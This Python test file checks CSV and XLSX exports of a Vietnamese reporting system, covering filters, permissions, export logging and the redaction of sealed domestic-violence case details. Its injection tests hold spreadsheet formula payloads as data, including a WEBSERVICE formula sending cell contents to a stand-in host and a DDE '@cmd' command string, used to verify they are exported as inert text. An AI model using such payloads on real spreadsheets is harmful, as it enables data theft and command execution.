"""CSV and XLSX exports read back: Vietnamese headers and values, filters, case free text
left out unless privileged, every case export logged."""

import csv
import io
import uuid as uuid_lib
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.exc import DBAPIError

from cslp_forms.extensions import db
from cslp_forms.models import AccessLog, ExportLog, Submission, User
from tests.api import report_fixture
from tests.api.sync_helpers import activity, item
from tests.conftest import assert_problem

MARKER = "GHI-CHU-MAT"


@pytest.fixture
def records(login):
    return report_fixture.build(login)


def read_csv(res):
    assert res.status_code == 200, res.get_data(as_text=True)[:500]
    assert res.mimetype == "text/csv"
    text = res.get_data().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def read_xlsx(res):
    assert res.status_code == 200, res.get_data(as_text=True)[:500]
    assert res.mimetype.endswith("spreadsheetml.sheet")
    return load_workbook(io.BytesIO(res.get_data()))


def test_csv_of_approved_activities_for_the_year(records, login):
    res = login("admin.tinh").get(
        "/api/reports/export?form=activity&format=csv&unit=94&period=2024&status=approved")
    assert res.is_streamed
    assert 'filename="cslp_activity_94_2024.csv"' in res.headers["Content-Disposition"]
    rows = read_csv(res)
    header, body = rows[0], rows[1:]
    assert header[:4] == ["Mã phiếu", "Mã đơn vị", "Đơn vị", "Đơn vị cấp trên"]
    assert "Loại hoạt động" in header and "Tổng số lượt người tham dự" in header
    assert len(body) == 12  # A1–A11 and A14 (A12 pending, A13 returned, A15 in 2023)
    by_uuid = {r[0]: dict(zip(header, r, strict=True)) for r in body}
    a1 = by_uuid[records["A1"]]
    assert a1["Loại hoạt động"] == "Tuyên truyền, phổ biến, giáo dục pháp luật"
    assert (a1["Đơn vị"], a1["Đơn vị cấp trên"], a1["Ngày"]) == (
        "Xã An Thạnh 2", "Huyện Cù Lao Dung", "2024-11-09")
    assert (a1["Trạng thái"], a1["Tổng số lượt người tham dự"]) == ("Đã duyệt", "45")
    assert [r[4] for r in body] == sorted(r[4] for r in body)


def test_xlsx_filtered_by_district_and_month(records, login):
    res = login("giamsat.culaodung").get(
        "/api/reports/export?form=activity&format=xlsx&unit=945&period=2024-11")
    book = read_xlsx(res)
    sheet = book["Phiếu"]
    rows = list(sheet.iter_rows(values_only=True))
    header, body = rows[0], rows[1:]
    assert {r[0] for r in body} == {records[n] for n in ("A1", "A3", "A9", "A10", "A12",
                                                          "A14")}
    day = header.index("Ngày")
    assert all(r[day].year == 2024 and r[day].month == 11 for r in body)
    status = header.index("Trạng thái")
    assert sorted(r[status] for r in body).count("Đã gửi") == 1
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref.startswith("A1:") and sheet.auto_filter.ref.endswith(
        str(len(rows)))
    about = dict(book["Bộ lọc"].iter_rows(values_only=True))
    assert about["Kỳ"] == "Tháng 11/2024" and about["Số phiếu"] == 6
    assert about["Đơn vị"].startswith("945 Huyện Cù Lao Dung")


def test_case_export_leaves_out_free_text_for_a_district_and_is_logged(app, records, login):
    res = login("giamsat.culaodung").get(
        "/api/reports/export?form=incident&format=xlsx&unit=945&period=2024")
    book = read_xlsx(res)
    rows = list(book["Phiếu"].iter_rows(values_only=True))
    header = rows[0]
    assert len(rows) == 5  # I1, I2, I3, I6 (whatever the consent: this is the case list)
    assert "Tóm tắt vụ việc" not in header and "Mã người bị hại" not in header
    assert "Nhóm vụ việc" in header
    flat = [str(v) for name in book.sheetnames
            for r in book[name].iter_rows(values_only=True) for v in r]
    assert not any(MARKER in v for v in flat)
    assert "Bạo lực gia đình" in flat
    with app.app_context():
        log = db.session.scalars(select(ExportLog)).all()
        assert [(e.user.username, e.form, e.format, e.privileged, e.rows) for e in log] == [
            ("giamsat.culaodung", "incident", "xlsx", False, 4)]
        assert log[0].filters["period"] == "2024"


def test_privileged_case_export_keeps_free_text_and_is_logged(app, records, login):
    # The province's incident reviewer: the sealed details are opened for her export.
    rows = read_csv(login("giamsat.tinh").get(
        "/api/reports/export?form=incident&format=csv&unit=94"))
    header = rows[0]
    assert "Tóm tắt vụ việc" in header and "Mã người bị hại" in header
    assert any(MARKER in v for r in rows[1:] for v in r)
    assert len(rows) == 7
    login("giamsat.tinh").get("/api/reports/export?form=activity&format=csv&unit=94")
    with app.app_context():
        log = db.session.scalars(select(ExportLog)).all()
        assert [(e.form, e.privileged, e.rows) for e in log] == [("incident", True, 6)]
        access = db.session.scalars(select(AccessLog)).all()
        assert ("giamsat.tinh", "export") in {(a.user.username, a.action) for a in access}


def test_case_export_without_the_permission_has_only_the_plain_fields(records, login):
    rows = read_csv(login("admin.tinh").get(
        "/api/reports/export?form=incident&format=csv&unit=94"))
    header = rows[0]
    assert "Nhóm vụ việc" in header and "Hành vi bạo lực gia đình (khoản 1 Điều 3 " \
        "Luật PCBLGĐ 2022)" not in header
    assert not any(MARKER in v for r in rows[1:] for v in r)


@pytest.mark.parametrize("username, query, status, code", [
    ("canbo.anthanh2", "form=activity", 403, "report.not_allowed"),
    ("giamsat.culaodung", "form=activity&unit=942", 403, "report.not_allowed"),
    ("giamsat.culaodung", "form=activity&unit=94", 403, "report.not_allowed"),
    ("giamsat.culaodung", "form=survey", 400, "request.invalid"),
    ("giamsat.culaodung", "form=activity&format=pdf", 400, "request.invalid"),
    ("giamsat.culaodung", "form=activity&period=2024-13", 400, "request.invalid"),
    ("giamsat.culaodung", "form=activity&status=done", 400, "request.invalid"),
    ("giamsat.culaodung", "form=activity&unit=99999", 404, "unit.not_found"),
    ("giamsat.culaodung", "format=csv", 400, "request.invalid"),
])
def test_bad_exports(login, username, query, status, code):
    assert_problem(login(username).get(f"/api/reports/export?{query}"), status, code)


def test_empty_export_still_has_headers(login):
    rows = read_csv(login("giamsat.culaodung").get(
        "/api/reports/export?form=model_group&format=csv&period=2024-Q1"))
    assert rows[0][0] == "Mã phiếu" and "Loại mô hình" in rows[0] and len(rows) == 1


# --- what a spreadsheet would run, or cannot read ------------------------------------

# Each starts a cell that Excel or LibreOffice would evaluate as a formula (OWASP's list).
FORMULAS = ['=WEBSERVICE("http://x.example/?"&A1)', "+1+2", "-2+3", "@SUM(A1:A9)",
            "\t=1+2", "\r=1+2"]


def filed_activities(login, texts):
    """One activity per text, the text as its title (and its notes), filed in 31630."""
    officer = login("canbo.anthanh2")
    uuids = []
    for n, text in enumerate(texts, 1):
        it = item(activity(title_content=text, notes=text, participants_total=40 + n,
                           participants_female=30, participants_male=10 + n))
        [result] = officer.post("/api/sync", json={"items": [it]}).get_json()["results"]
        assert result["status"] == "accepted", result
        uuids.append(it["uuid"])
    return uuids


def sheet_xml(res) -> str:
    with zipfile.ZipFile(io.BytesIO(res.get_data())) as book:
        return book.read("xl/worksheets/sheet1.xml").decode()


def test_text_answers_are_never_formulas_in_xlsx(login):
    uuids = filed_activities(login, FORMULAS)
    res = login("giamsat.culaodung").get("/api/reports/export?form=activity&format=xlsx")
    assert "<f>" not in sheet_xml(res) and "<f " not in sheet_xml(res)
    sheet = read_xlsx(res)["Phiếu"]
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    title, notes = header.index("Tên, nội dung hoạt động"), header.index("Ghi chú")
    total, day = header.index("Tổng số lượt người tham dự"), header.index("Ngày")
    by_uuid = {r[0].value: r for r in rows[1:]}
    for n, (uuid, text) in enumerate(zip(uuids, FORMULAS, strict=True), 1):
        row = by_uuid[uuid]
        # The text reads back as she typed it: a string cell, marked as text for Excel.
        for cell in (row[title], row[notes]):
            assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
        assert row[total].value == 40 + n and row[total].data_type == "n"
        assert row[day].is_date


def test_text_answers_cannot_start_a_formula_in_csv(login):
    uuids = filed_activities(login, [*FORMULAS, "Họp ấp Phước Hòa", "a;=1+2"])
    res = login("giamsat.culaodung").get("/api/reports/export?form=activity&format=csv")
    rows = read_csv(res)
    header = rows[0]
    title = header.index("Tên, nội dung hoạt động")
    total = header.index("Tổng số lượt người tham dự")
    by_uuid = {r[0]: r for r in rows[1:]}
    for n, (uuid, text) in enumerate(zip(uuids[:len(FORMULAS)], FORMULAS, strict=True), 1):
        assert by_uuid[uuid][title] == "'" + text
        assert by_uuid[uuid][total] == str(40 + n)
    assert by_uuid[uuids[-2]][title] == "Họp ấp Phước Hòa"
    # Every text cell is quoted, so a spreadsheet splitting on ";" (the Vietnamese list
    # separator) cannot make a cell of "=1+2"; numbers stay bare, read as numbers.
    text = res.get_data().decode("utf-8-sig")
    assert '"a;=1+2"' in text and f',{40 + len(FORMULAS) + 2},' in text


def test_formulas_in_repeat_rows_and_names_are_text(app, login):
    officer = login("canbo.anthanh2")
    it = item({"model_type": "chia_se", "name": "=HYPERLINK(\"http://x\")",
               "program_source": ["de_an_938"], "established_date": "2024-01-05",
               "status": "dang_hoat_dong", "status_date": "2024-02-01", "members_total": 9,
               "meetings": [{"date": "2024-03-01", "topic": "=1+2",
                             "participants_total": 9}]}, form="model_group")
    [result] = officer.post("/api/sync", json={"items": [it]}).get_json()["results"]
    assert result["status"] == "accepted", result
    with app.app_context():
        user = db.session.scalar(select(User).where(User.username == "canbo.anthanh2"))
        user.display_name = "@cmd|' /C calc'!A0"
        db.session.commit()
    res = login("giamsat.culaodung").get("/api/reports/export?form=model_group&format=xlsx")
    assert "<f>" not in sheet_xml(res)
    [row] = list(read_xlsx(res)["Phiếu"].iter_rows(min_row=2, values_only=True))
    assert "=HYPERLINK(\"http://x\")" in row and "@cmd|' /C calc'!A0" in row
    assert any(isinstance(v, str) and v.startswith("1. ") and "=1+2" in v for v in row)
    rows = read_csv(login("giamsat.culaodung").get(
        "/api/reports/export?form=model_group&format=csv"))
    assert "'=HYPERLINK(\"http://x\")" in rows[1] and "'@cmd|' /C calc'!A0" in rows[1]


# Not XML 1.0 characters: stored before sync refused them, they must not break an export.
@pytest.mark.parametrize("bad", ["\x0b", "\x1f", "\x01", "\ufffe", "\uffff", "\ud800"])
def test_an_unwritable_character_already_stored_does_not_break_exports(app, login, bad):
    [uuid] = filed_activities(login, ["Họp ấp"])
    with app.app_context():
        row = db.session.get(Submission, uuid_lib.UUID(uuid))
        row.answers = {**row.answers, "title_content": f"Họp{bad}ấp", "notes": bad}
        if bad == "\ud800" and db.engine.dialect.name == "postgresql":
            # jsonb cannot hold a lone surrogate at all: nothing to export.
            with pytest.raises(DBAPIError):
                db.session.commit()
            return
        db.session.commit()
    supervisor = login("giamsat.culaodung")
    book = read_xlsx(supervisor.get("/api/reports/export?form=activity&format=xlsx"))
    [row] = list(book["Phiếu"].iter_rows(min_row=2, values_only=True))
    assert "Họp\ufffdấp" in row and "\ufffd" in row
    rows = read_csv(supervisor.get("/api/reports/export?form=activity&format=csv"))
    assert "Họp\ufffdấp" in rows[1] and "\ufffd" in rows[1]
